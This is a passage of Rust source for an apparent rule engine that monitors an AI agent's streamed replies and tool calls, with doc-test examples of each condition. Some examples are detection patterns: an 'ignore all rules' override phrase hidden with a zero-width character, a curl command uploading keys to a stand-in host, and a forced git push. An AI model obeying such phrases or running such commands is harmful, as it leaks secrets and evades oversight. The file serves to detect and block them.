//! The conditions of a rule.

use std::fmt;
use std::sync::Arc;

use serde::{Deserialize, Serialize};
pub use ttsr_views::detect::checksum::Checksum;

/// The syntax of a [`Pattern`].
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[non_exhaustive]
pub enum PatternKind {
    /// The exact text.
    Literal,
    /// The exact text, not inside a longer word (Unicode word boundaries on both sides).
    Word,
    /// A regular expression in the syntax of the `regex` crate, Unicode on.
    Regex,
    /// A command that a shell would run: the globs of its program and its subcommands, separated by blanks.
    Command,
}

impl PatternKind {
    /// Returns the name used in rules: `literal`, `word`, `regex` or `command`.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            PatternKind::Literal => "literal",
            PatternKind::Word => "word",
            PatternKind::Regex => "regex",
            PatternKind::Command => "command",
        }
    }
}

/// A pattern that a rule searches for.
///
/// # Example: the three kinds of patterns
/// ```
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let hits = |pattern: Pattern| {
///     let pack = Pack::builder().rule(Rule::new("demo/it", vec![pattern])).build()?;
///     let mut stream = pack.stream();
///     let hits = stream.push(PartId(0), b"a.bc a-b").len();
///     Ok::<_, ttsr::LoadError>(hits + stream.finish().len())
/// };
/// assert_eq!(hits(Pattern::literal("a.b"))?, 1);
/// assert_eq!(hits(Pattern::word("a.b"))?, 0, "it goes on");
/// assert_eq!(hits(Pattern::regex("a.b$"))?, 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Pattern {
    /// The syntax of `text`.
    pub kind: PatternKind,
    /// The literal, the word, the regular expression or the names of the command as written.
    pub text: String,
    /// The regions it is searched in, all of which must apply. Empty: everywhere.
    pub region: Vec<Region>,
    /// The differences it ignores: without duplicates, in the order of [`Fold::ALL`].
    pub fold: Vec<Fold>,
    /// A dotted glob on the path of the argument it is searched in, in addition to the globs of the rule.
    pub arg: Option<String>,
    /// A regular expression: a match of the pattern does not count if a match of this one has ended before it ends, in the
    /// same text. It reads the same regions with the same folds. Not for [`PatternKind::Command`].
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub unless: Option<String>,
    /// The requirements on the words of a command. Only for [`PatternKind::Command`]; `None`: no requirement.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub command: Option<Box<CommandRequirements>>,
}

impl Pattern {
    /// Creates a pattern without regions, folds or an argument.
    #[must_use]
    pub fn new(kind: PatternKind, text: impl Into<String>) -> Pattern {
        Pattern {
            kind,
            text: text.into(),
            region: Vec::new(),
            fold: Vec::new(),
            arg: None,
            unless: None,
            command: None,
        }
    }

    /// Creates a pattern that matches a command, by the globs of its program and its subcommands.
    ///
    /// # Example: a command, however it is spelled
    /// ```
    /// use ttsr::rule::CommandRequirements;
    /// use ttsr::{Channel, Pack, PartId, Pattern, Rule};
    /// let mut pattern = Pattern::command("git push");
    /// pattern.command = Some(Box::new(CommandRequirements {
    ///     flags: vec!["-f|--force".into()],
    ///     ..CommandRequirements::default()
    /// }));
    /// let mut rule = Rule::new("demo/no-force-push", vec![pattern]);
    /// rule.on = vec![Channel::ToolInput];
    /// let mut stream = Pack::builder().rule(rule).build()?.stream();
    /// stream.open(PartId(0), Channel::ToolInput);
    /// let hits = stream.push(PartId(0), br#"{"command":"cd x && sudo git -C y push origin main --for"#).len();
    /// assert_eq!(hits, 0);
    /// assert_eq!(stream.push(PartId(0), br#"ce"}"#).len(), 1);
    /// # Ok::<(), ttsr::LoadError>(())
    /// ```
    #[must_use]
    pub fn command(names: impl Into<String>) -> Pattern {
        Pattern::new(PatternKind::Command, names)
    }

    /// Creates a pattern that matches the exact text.
    #[must_use]
    pub fn literal(text: impl Into<String>) -> Pattern {
        Pattern::new(PatternKind::Literal, text)
    }

    /// Creates a pattern that matches the exact text, not inside a longer word.
    #[must_use]
    pub fn word(text: impl Into<String>) -> Pattern {
        Pattern::new(PatternKind::Word, text)
    }

    /// Creates a pattern from a regular expression in the syntax of the `regex` crate.
    #[must_use]
    pub fn regex(text: impl Into<String>) -> Pattern {
        Pattern::new(PatternKind::Regex, text)
    }

    /// Returns the pattern of [`unless`](Self::unless), with the regions, the folds and the argument of this one.
    pub(crate) fn exception(&self) -> Option<Pattern> {
        Some(Pattern {
            kind: PatternKind::Regex,
            text: self.unless.clone()?,
            unless: None,
            command: None,
            ..self.clone()
        })
    }

    /// Returns the pattern as a regular expression in the syntax of the `regex` crate.
    ///
    /// # Example: a word is bounded on both sides
    /// ```
    /// use ttsr::Pattern;
    /// let word = Pattern::word("a.b");
    /// assert_eq!(word.to_regex(), r"\b{start-half}a\.b\b{end-half}");
    /// ```
    #[must_use]
    pub fn to_regex(&self) -> String {
        match self.kind {
            PatternKind::Literal => regex_syntax::escape(&self.text),
            PatternKind::Word => {
                format!(
                    r"\b{{start-half}}{}\b{{end-half}}",
                    regex_syntax::escape(&self.text)
                )
            }
            PatternKind::Regex => self.text.clone(),
            // The names are globs, so this is only the text that a person would look for.
            PatternKind::Command => regex_syntax::escape(&self.text),
        }
    }
}

/// The requirements of a pattern on the words of a command. A command that meets all of them is a match.
///
/// Words are compared without quotes and escapes, and wrappers such as `sudo` are not part of the command. Operands
/// that look like paths are normalized: `//`, `/./` and `..` are resolved, and the home directory is written `~`.
///
/// See [`Pattern::command`] for an example.
#[derive(Clone, Debug, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(default, rename_all = "kebab-case")]
pub struct CommandRequirements {
    /// Flags that the command has. The spellings of one flag are separated by `|`. A spelling with `=` is followed by
    /// a glob on the value: `-X=DELETE`.
    pub flags: Vec<String>,
    /// Flags that the command does not have, in the same form. The match becomes certain when the command ends.
    pub no_flags: Vec<String>,
    /// A regular expression that matches in an operand of the command.
    pub operand: Option<String>,
    /// A regular expression that matches in each operand of the command, of which there is at least one. The match
    /// becomes certain when the command ends.
    pub operands_all: Option<String>,
    /// A regular expression that matches in the last operand of the command, which is the target of `cp` and `mv`. The
    /// match becomes certain when the command ends.
    pub last_operand: Option<String>,
    /// The smallest number of operands.
    pub min_operands: Option<u32>,
    /// The largest number of operands; 0 for a command without operands. The match becomes certain when the command
    /// ends.
    pub max_operands: Option<u32>,
    /// A regular expression that matches the working directory of the command, if `cd` or `pushd` has changed it before, in
    /// the same text. It is written like an operand; a relative path begins at the directory of the text.
    pub directory: Option<String>,
    /// A regular expression that matches in the constant code that the program runs in a language other than that of shells:
    /// the value of an option such as `-c` or `-e`, an operand that is a statement, or its standard input if the same text
    /// has it. Each of these texts is searched by itself.
    pub code: Option<String>,
    /// Globs on the names of variables that are set for the command, with a glob on the value after `=`: one applies.
    pub env: Vec<String>,
    /// Globs on the files that the command writes by a redirection, in the form of [`paths`](super::Rule::paths).
    pub redirect_to: Vec<String>,
    /// Globs on the files that the command reads: its operands, the values of its flags also after `@`, its redirected
    /// standard input, and files read by commands whose output it gets.
    pub reads: Vec<String>,
    /// The command runs its standard input, or the output of another command, as code.
    pub stdin_is_code: bool,
    /// The command runs the code of a file that an earlier command of the same call has written.
    pub file_is_code: bool,
    /// A command that gets the output of this one through a pipe.
    pub pipe_to: Option<Box<Pattern>>,
    /// A command whose output this one gets through a pipe or as code.
    pub pipe_from: Option<Box<Pattern>>,
    /// A command that this one runs: its words, as `sudo` and `find -exec` do, or its script, as `sh -c` does.
    pub runs: Option<Box<Pattern>>,
    /// A regular expression on the argument as it is written. Its match counts at the end of the call, if some commands of
    /// the call could not be read ([`Counters::cut_commands`](crate::stream::Counters::cut_commands)).
    pub raw: Option<String>,
}

/// A kind of text inside a part.
///
/// # Example: in code, not in prose
/// ```
/// use ttsr::rule::Region;
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut pattern = Pattern::literal("unwrap()");
/// pattern.region = vec![Region::CodeIn("rust".into())];
/// let mut stream = Pack::builder().rule(Rule::new("demo/no-unwrap", vec![pattern])).build()?.stream();
/// assert_eq!(stream.push(PartId(0), b"Never call unwrap().\n\n").len(), 0);
/// assert_eq!(stream.push(PartId(0), b"~~~rust\nx.unwrap();\n~~~\n").len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(into = "String")]
#[serde(try_from = "String")]
#[non_exhaustive]
pub enum Region {
    /// Markdown text that is not code.
    Prose,
    /// Fenced or indented code.
    Code,
    /// Fenced code of that language, lower case.
    CodeIn(String),
    /// Code between backticks.
    InlineCode,
    /// A block quote.
    Quote,
    /// A heading.
    Heading,
    /// Lines that an edit adds.
    Added,
    /// Lines that an edit removes.
    Removed,
    /// The file after an edit, as far as the tool call shows it.
    File,
    /// Shell commands, without quotes.
    Shell,
    /// Comments in code.
    Comment,
    /// Strings in code.
    String,
    /// Code, in which a string is reduced to its quotes and a comment to its first character.
    CodeOnly,
    /// Code with its strings and without its comments.
    Uncommented,
}

impl Region {
    /// Every region except [`Region::CodeIn`], in the order of declaration.
    pub const PLAIN: [Region; 13] = [
        Region::Prose,
        Region::Code,
        Region::InlineCode,
        Region::Quote,
        Region::Heading,
        Region::Added,
        Region::Removed,
        Region::File,
        Region::Shell,
        Region::Comment,
        Region::String,
        Region::CodeOnly,
        Region::Uncommented,
    ];

    /// Returns the name used in rules: `prose`, `code`, `code:rust`, …
    #[must_use]
    pub fn name(&self) -> String {
        match self {
            Region::Prose => "prose".into(),
            Region::Code => "code".into(),
            Region::CodeIn(language) => format!("code:{language}"),
            Region::InlineCode => "inline-code".into(),
            Region::Quote => "quote".into(),
            Region::Heading => "heading".into(),
            Region::Added => "added".into(),
            Region::Removed => "removed".into(),
            Region::File => "file".into(),
            Region::Shell => "shell".into(),
            Region::Comment => "comment".into(),
            Region::String => "string".into(),
            Region::CodeOnly => "code-only".into(),
            Region::Uncommented => "uncommented".into(),
        }
    }

    /// Returns the region with that [`name`](Self::name).
    ///
    /// # Example: code of one language
    /// ```
    /// use ttsr::rule::Region;
    /// let region = Region::from_name("code:rust").unwrap();
    /// assert_eq!(region, Region::CodeIn("rust".into()));
    /// assert_eq!(region.name(), "code:rust");
    /// ```
    #[must_use]
    pub fn from_name(name: &str) -> Option<Region> {
        match name.strip_prefix("code:") {
            Some("") => None,
            Some(language) => Some(Region::CodeIn(language.to_lowercase())),
            None => Region::PLAIN
                .into_iter()
                .find(|region| region.name() == name),
        }
    }
}

impl From<Region> for String {
    fn from(region: Region) -> String {
        region.name()
    }
}

impl TryFrom<String> for Region {
    type Error = String;
    fn try_from(name: String) -> Result<Region, String> {
        Region::from_name(&name).ok_or_else(|| format!("unknown region `{name}`"))
    }
}

/// A difference between characters that a pattern ignores.
///
/// # Example: case and invisible characters
/// ```
/// use ttsr::rule::Fold;
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut pattern = Pattern::literal("ignore all rules");
/// pattern.fold = vec![Fold::Case, Fold::Invisible];
/// let mut stream = Pack::builder().rule(Rule::new("demo/obey", vec![pattern])).build()?.stream();
/// let text = "IGNORE all\u{200b} Rules";
/// assert_eq!(stream.push(PartId(0), text.as_bytes()).len(), 1);
/// assert_eq!(Fold::from_name("invisible"), Some(Fold::Invisible));
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[non_exhaustive]
pub enum Fold {
    /// Upper and lower case.
    Case,
    /// Compatibility forms: full width, ligatures, styled letters (Unicode NFKC; feature `unicode`).
    Nfkc,
    /// Characters that look alike (Unicode UTS 39; feature `unicode`).
    Confusables,
    /// Invisible characters: zero-width, directional, tags, soft hyphen.
    Invisible,
}

impl Fold {
    /// Every fold, in the order of declaration.
    pub const ALL: [Fold; 4] = [Fold::Case, Fold::Nfkc, Fold::Confusables, Fold::Invisible];

    /// Returns the name used in rules.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Fold::Case => "case",
            Fold::Nfkc => "nfkc",
            Fold::Confusables => "confusables",
            Fold::Invisible => "invisible",
        }
    }

    /// Returns the fold with that [`name`](Self::name).
    #[must_use]
    pub fn from_name(name: &str) -> Option<Fold> {
        Fold::ALL.into_iter().find(|fold| fold.name() == name)
    }
}

/// The greatest distance between the matches of one condition.
///
/// # Example: both on one line
/// ```
/// use ttsr::rule::Within;
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut rule = Rule::new("demo/no-upload", Vec::new());
/// rule.condition.all = vec![Pattern::word("curl"), Pattern::literal("--data")];
/// rule.condition.within = Some(Within::Lines(1));
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// assert_eq!(stream.push(PartId(0), b"curl a.example\n--data\n").len(), 0);
/// assert_eq!(stream.push(PartId(0), b"curl --data @keys a.example\n").len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[non_exhaustive]
pub enum Within {
    /// At most this number of lines from the first start to the last end, in one haystack.
    Lines(u32),
    /// At most this number of characters from the first start to the last end, in one haystack.
    Chars(u32),
    /// Anywhere in the same part.
    Part,
    /// Anywhere in the same reply; parts are ordered by when they opened.
    Message,
}

impl Within {
    /// Returns the name used in rules: `lines`, `chars`, `part` or `message`.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Within::Lines(_) => "lines",
            Within::Chars(_) => "chars",
            Within::Part => "part",
            Within::Message => "message",
        }
    }
}

/// The scope over which matches are counted.
///
/// # Example: by name, narrowest first
/// ```
/// use ttsr::rule::Per;
/// assert_eq!(Per::ALL.map(Per::name), ["part", "message", "turn", "session"]);
/// assert_eq!(Per::from_name("turn"), Some(Per::Turn));
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[non_exhaustive]
pub enum Per {
    /// One part.
    Part,
    /// One reply, whatever the number of attempts. A discarded attempt does not count.
    Message,
    /// One turn of the user.
    Turn,
    /// The whole session.
    Session,
}

impl Per {
    /// Every scope, narrowest first.
    pub const ALL: [Per; 4] = [Per::Part, Per::Message, Per::Turn, Per::Session];

    /// Returns the name used in rules.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Per::Part => "part",
            Per::Message => "message",
            Per::Turn => "turn",
            Per::Session => "session",
        }
    }

    /// Returns the scope with that [`name`](Self::name).
    #[must_use]
    pub fn from_name(name: &str) -> Option<Per> {
        Per::ALL.into_iter().find(|per| per.name() == name)
    }
}

/// The number of matches that a hit requires.
///
/// # Example: the third match in a reply
/// ```
/// use ttsr::rule::{Count, Per};
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut rule = Rule::new("demo/no-regrets", vec![Pattern::literal("Sorry")]);
/// rule.condition.count = Some(Count { times: 3, per: Per::Message });
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// assert_eq!(stream.push(PartId(0), b"Sorry. Sorry, ").len(), 0);
/// assert_eq!(stream.push(PartId(1), b"Sorry!").len(), 1, "in another part of it");
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Count {
    /// The number of matches, which do not overlap.
    pub times: u32,
    /// The scope over which they are counted.
    pub per: Per,
}

/// Requirements on the text of a capture group.
///
/// # Example: a random seed, not a placeholder
/// ```
/// use ttsr::rule::Capture;
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut rule = Rule::new("demo/no-seed", vec![Pattern::regex(r#"seed = "([^"]*)""#)]);
/// rule.condition.capture = Some(Capture { random: true, ..Capture::default() });
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// assert_eq!(stream.push(PartId(0), br#"seed = "your-own-seed-goes-here""#).len(), 0);
/// assert_eq!(stream.push(PartId(0), br#"seed = "q8Zr1Tn5Xw0Ks7Vb2Lm4""#).len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
///
/// # Example: a card number, not any 16 digits
/// ```
/// use ttsr::rule::{Capture, Checksum};
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut rule = Rule::new("demo/no-card", vec![Pattern::regex(r"\b\d{16}\b")]);
/// rule.condition.capture = Some(Capture { checksum: Some(Checksum::Luhn), ..Capture::default() });
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// assert_eq!(stream.push(PartId(0), b"4111111111111112 ").len(), 0);
/// assert_eq!(stream.push(PartId(0), b"4111111111111111 ").len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Capture {
    /// The group, by number (0: the full match) or name. Default: `1` if the pattern has it, else `0`.
    pub group: Option<String>,
    /// The least Shannon entropy, in thousandths of a bit per character.
    pub entropy: Option<u32>,
    /// True if the text must look random for its alphabet: at least 3 bits per character for hexadecimal digits, 4 for
    /// base64 and 4.2 for any other text, and at least 16 characters.
    pub random: bool,
    /// The scheme whose check characters must be right.
    #[serde(default)]
    pub checksum: Option<Checksum>,
    /// Texts that are not hits, ignoring case; `*` and `?` are wildcards.
    pub not_in: Vec<String>,
}

/// The reply repeats itself.
///
/// The repeated text must have at least 240 characters. Regular text (blanks, ruled lines, numbers, tables, code) is a
/// repetition from 40 occurrences and 1,200 characters on.
///
/// # Example: the fourth occurrence
/// ```
/// use ttsr::rule::Repetition;
/// use ttsr::{Pack, PartId, Rule};
/// let mut rule = Rule::new("demo/no-circles", Vec::new());
/// let repetition = Repetition { unit_chars: (20, 400), times: 4, near: false, turns: None };
/// rule.condition.repetition = Some(repetition);
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// let unit = "I try once more, from the very beginning, with quite another idea. ";
/// assert_eq!(stream.push(PartId(0), unit.repeat(3).as_bytes()).len(), 0);
/// assert_eq!(stream.push(PartId(0), unit.as_bytes()).len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Repetition {
    /// The shortest and the longest unit, in characters, at most 4,096. A unit of more than 4,096 bytes is not detected.
    pub unit_chars: (u32, u32),
    /// The number of consecutive occurrences.
    pub times: u32,
    /// True if nearly equal lines and sentences count as well: 8 of the last 10, each of at least 7 distinct words.
    pub near: bool,
    /// The number of consecutive, nearly equal replies that count as well, each of at least 20 words. `None`: replies
    /// are not compared.
    pub turns: Option<u32>,
}

/// Limits on the reply itself. `None` is unlimited.
///
/// `bytes`, `lines` and `tokens` count the text that the rule reads: the text of a part, and for tool input the decoded
/// arguments in [`Rule::args`](crate::Rule::args) together, each of which starts a line. They do not depend on how the
/// reply was cut. `deltas`, `millis` and `stall_millis` apply to the part as a whole.
///
/// # Example: the first byte over the limit
/// ```
/// use ttsr::rule::Bound;
/// use ttsr::{Pack, PartId, Rule};
/// let mut rule = Rule::new("demo/be-brief", Vec::new());
/// rule.condition.limit = Some(Bound { bytes: Some(10), ..Bound::default() });
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// assert_eq!(stream.push(PartId(0), b"0123456789").len(), 0);
/// assert_eq!(stream.push(PartId(0), b"0").len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
///
/// # Example: lines of an argument
/// ```
/// use ttsr::rule::Bound;
/// use ttsr::{Channel, Pack, PartId, Rule};
/// let mut rule = Rule::new("demo/short-files", Vec::new());
/// (rule.on, rule.args) = (vec![Channel::ToolInput], vec!["content".into()]);
/// rule.condition.limit = Some(Bound { lines: Some(2), ..Bound::default() });
/// let pack = Pack::builder().rule(rule).build()?;
/// let hits = |input: &[u8]| {
///     let mut stream = pack.stream();
///     stream.open(PartId(0), Channel::ToolInput);
///     stream.push(PartId(0), input).len()
/// };
/// assert_eq!(hits(br#"{"path": "a", "content": "one\ntwo\n"}"#), 0);
/// assert_eq!(hits(br#"{"path": "a", "content": "one\ntwo\nthree"}"#), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Bound {
    /// The most bytes.
    pub bytes: Option<u64>,
    /// The most lines with at least one byte, including the last one.
    pub lines: Option<u64>,
    /// The most deltas of a part. The result depends on how the reply was cut.
    pub deltas: Option<u64>,
    /// The most tokens, estimated unless the host counts them. The host counts a whole part, so its count does not
    /// apply to rules with `args`.
    pub tokens: Option<u64>,
    /// The longest time since the part opened, in milliseconds. The result depends on arrival times.
    pub millis: Option<u64>,
    /// The longest time between two deltas, in milliseconds. The result depends on arrival times.
    pub stall_millis: Option<u64>,
}

/// The wrong natural language: 40 of the last 48 letters belong to another script (a Han, kana or Hangul letter counts
/// as 3) or, if a language is expected, the last 32 words contain 10 more function words of another language than of
/// any expected one. Code is ignored.
///
/// # Example: Latin letters only
/// ```
/// use ttsr::rule::Script;
/// use ttsr::{Pack, PartId, Rule};
/// let mut rule = Rule::new("demo/latin", Vec::new());
/// rule.condition.script = Some(Script { expect: vec!["latin".into()] });
/// let pack = Pack::builder().rule(rule).build()?;
/// let hits = |text: &str| {
///     let mut stream = pack.stream();
///     let hits = stream.push(PartId(0), text.as_bytes()).len();
///     hits + stream.finish().len()
/// };
/// assert_eq!(hits("Это совсем не то, о чём мы говорили раньше, и даже не тот язык."), 1);
/// assert_eq!(hits("That is not it, and «не то» is no more than a word."), 0);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Script {
    /// The expected scripts (`latin`, `han`, `cyrillic`, …) or languages (`en`, `de`, …).
    pub expect: Vec<String>,
}

impl Script {
    /// The valid values: scripts by their Unicode names, languages by their ISO 639 codes.
    pub const NAMES: [&'static str; 27] = ttsr_views::detect::script::NAMES;
}

/// Known names, from one or more lists. Clones share the lists: a thousand rules with the same list of 50,000 names
/// store it once.
///
/// # Example: names from a list, and one more
/// ```
/// use ttsr::rule::KnownList;
/// let mut known: KnownList = ["serde", "tokio"].into_iter().collect();
/// known.add(["anyhow".to_owned()].into());
/// assert_eq!(known.iter().collect::<Vec<_>>(), ["serde", "tokio", "anyhow"]);
/// ```
#[derive(Clone, Default, Serialize, Deserialize)]
#[serde(from = "Vec<String>", into = "Vec<String>")]
pub struct KnownList {
    lists: Vec<Arc<[String]>>,
}

impl KnownList {
    /// Adds a list, without copying it.
    pub fn add(&mut self, list: Arc<[String]>) {
        if !list.is_empty() {
            self.lists.push(list);
        }
    }

    /// Returns every name, list by list.
    pub fn iter(&self) -> impl Iterator<Item = &str> {
        self.lists
            .iter()
            .flat_map(|list| list.iter())
            .map(String::as_str)
    }

    /// Returns the lists.
    pub(crate) fn lists(&self) -> &[Arc<[String]>] {
        &self.lists
    }
}

impl PartialEq for KnownList {
    fn eq(&self, other: &KnownList) -> bool {
        let is_same = |(one, other): (&Arc<[String]>, &Arc<[String]>)| Arc::ptr_eq(one, other);
        let (lists, others) = (&self.lists, &other.lists);
        lists.len() == others.len() && lists.iter().zip(others).all(is_same)
            || self.iter().eq(other.iter())
    }
}

impl Eq for KnownList {}

impl fmt::Debug for KnownList {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_list().entries(self.iter()).finish()
    }
}

impl From<Vec<String>> for KnownList {
    fn from(names: Vec<String>) -> KnownList {
        let mut known = KnownList::default();
        known.add(names.into());
        known
    }
}

impl From<KnownList> for Vec<String> {
    fn from(known: KnownList) -> Vec<String> {
        known.iter().map(str::to_owned).collect()
    }
}

impl<N: Into<String>> FromIterator<N> for KnownList {
    fn from_iter<I: IntoIterator<Item = N>>(names: I) -> KnownList {
        KnownList::from(names.into_iter().map(N::into).collect::<Vec<String>>())
    }
}

/// Names that are not known.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct UnknownName {
    /// The known names, in addition to those of standard libraries. The host can add its own.
    pub known: KnownList,
    /// The kinds of names that are checked. Empty: packages.
    #[serde(default)]
    pub of: Vec<Named>,
}

impl UnknownName {
    /// Returns true if names of this kind are checked.
    ///
    /// # Example: packages by default
    /// ```
    /// use ttsr::rule::{Named, UnknownName};
    /// let mut names = UnknownName::default();
    /// assert!(names.checks(Named::Package) && !names.checks(Named::File));
    /// names.of = vec![Named::File];
    /// assert!(names.checks(Named::File) && !names.checks(Named::Package));
    /// ```
    #[must_use]
    pub fn checks(&self, named: Named) -> bool {
        self.of.contains(&named) || self.of.is_empty() && named == Named::Package
    }
}

/// The kind of a name.
///
/// # Example: a tool that does not exist
/// ```
/// use ttsr::rule::{Condition, Named, UnknownName};
/// use ttsr::{Channel, Pack, PartId, Rule};
/// let mut rule = Rule::new("demo/no-such-tool", Vec::new());
/// rule.on = vec![Channel::ToolInput];
/// let of = vec![Named::from_name("tool").unwrap()];
/// rule.condition.unknown_name = Some(UnknownName { known: ["read"].into_iter().collect(), of });
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// stream.open(PartId(0), Channel::ToolInput);
/// stream.open(PartId(1), Channel::ToolInput);
/// assert_eq!(stream.set_tool(PartId(0), "read", "call_1").len(), 0);
/// assert_eq!(stream.set_tool(PartId(1), "raed", "call_2").len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[non_exhaustive]
pub enum Named {
    /// A package, crate or module that code imports.
    Package,
    /// A file that a code span of the text mentions.
    File,
    /// A tool that is called.
    Tool,
}

impl Named {
    /// Every kind.
    pub const ALL: [Named; 3] = [Named::Package, Named::File, Named::Tool];

    /// Returns the name used in rules.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Named::Package => "package",
            Named::File => "file",
            Named::Tool => "tool",
        }
    }

    /// Returns the kind with that [`name`](Self::name).
    #[must_use]
    pub fn from_name(name: &str) -> Option<Named> {
        Named::ALL.into_iter().find(|named| named.name() == name)
    }
}

/// A structural search in code. A rule with it does not load without the feature `ast`.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Ast {
    /// The languages of the code, by their [names](Ast::LANGUAGES).
    pub languages: Vec<String>,
    /// Patterns of ast-grep, any of which matches.
    pub any: Vec<String>,
    /// Patterns of ast-grep; the match must be inside a match of any of them. A metavariable has the same value inside
    /// and outside. Empty: anywhere.
    pub inside: Vec<String>,
    /// Patterns of ast-grep that the match must not match.
    pub not: Vec<String>,
}

impl Ast {
    /// The supported languages.
    pub const LANGUAGES: [&'static str; 6] =
        ["rust", "typescript", "tsx", "javascript", "python", "go"];
}

/// The same tool call over and over.
///
/// # Example: the third call
/// ```
/// use ttsr::rule::DoomLoop;
/// use ttsr::{Channel, Pack, PartId, Rule};
/// let mut rule = Rule::new("demo/again", Vec::new());
/// rule.on = vec![Channel::ToolInput];
/// rule.condition.doom_loop = Some(DoomLoop { times: 3, differing: 0 });
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// let calls = [0, 1, 2].map(|number| {
///     let part = PartId(number);
///     stream.open(part, Channel::ToolInput);
///     let _named = stream.set_tool(part, "read", &format!("call_{number}"));
///     let hits = stream.push(part, br#"{"path": "a.txt"}"#).len();
///     hits + stream.close(part).len()
/// });
/// assert_eq!(calls, [0, 0, 1]);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct DoomLoop {
    /// The number of consecutive equal calls, or of repetitions of the same two or three calls in turn.
    pub times: u32,
    /// The most arguments in which consecutive calls may differ, fewer than half of them. Such calls are a loop from 20
    /// on, or from `times` if that is more.
    pub differing: u32,
}

/// The condition that a violation meets: something in `any`, `all`, `sequence` or a detector matches, and the context
/// does not exclude it.
///
/// # Example: unless a comment explains it
/// ```
/// use ttsr::rule::Condition;
/// use ttsr::{Pack, PartId, Pattern, Rule};
/// let mut rule = Rule::new("demo/say-why", Vec::new());
/// rule.condition = Condition::any(vec![Pattern::literal("unsafe {")]);
/// rule.condition.none = vec![Pattern::literal("SAFETY:")];
/// let mut stream = Pack::builder().rule(rule).build()?.stream();
/// assert_eq!(stream.push(PartId(0), b"unsafe { a() } // SAFETY: it is ours\n").len(), 0);
/// assert_eq!(stream.push(PartId(0), b"unsafe { b() }\n").len(), 1);
/// # Ok::<(), ttsr::LoadError>(())
/// ```
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Condition {
    /// Any of these matches.
    pub any: Vec<Pattern>,
    /// All of these match, in any order, [`within`](Self::within) (default: the part).
    pub all: Vec<Pattern>,
    /// These match one after the other, without overlap, [`within`](Self::within) (default: the part).
    pub sequence: Vec<Pattern>,
    /// None of these matches [`within`](Self::within) (default: one line) of the match, on either side, in the same
    /// haystack.
    pub none: Vec<Pattern>,
    /// The greatest distance. `None`: the default of the key it applies to.
    pub within: Option<Within>,
    /// The match ends within this number of characters from the start of the haystack.
    pub first: Option<u32>,
    /// The match starts within this number of characters from the end of the haystack.
    pub last: Option<u32>,
    /// The match is a whole line.
    pub line: bool,
    /// The number of matches that a hit requires.
    pub count: Option<Count>,
    /// Requirements on the match or on a capture group.
    pub capture: Option<Capture>,
    /// The reply repeats itself.
    pub repetition: Option<Repetition>,
    /// The reply contains control tokens of a model family.
    pub leak: bool,
    /// The reply is too long, or too slow.
    pub limit: Option<Bound>,
    /// The reply is in the wrong language.
    pub script: Option<Script>,
    /// The reply names a package, file or tool that is not known.
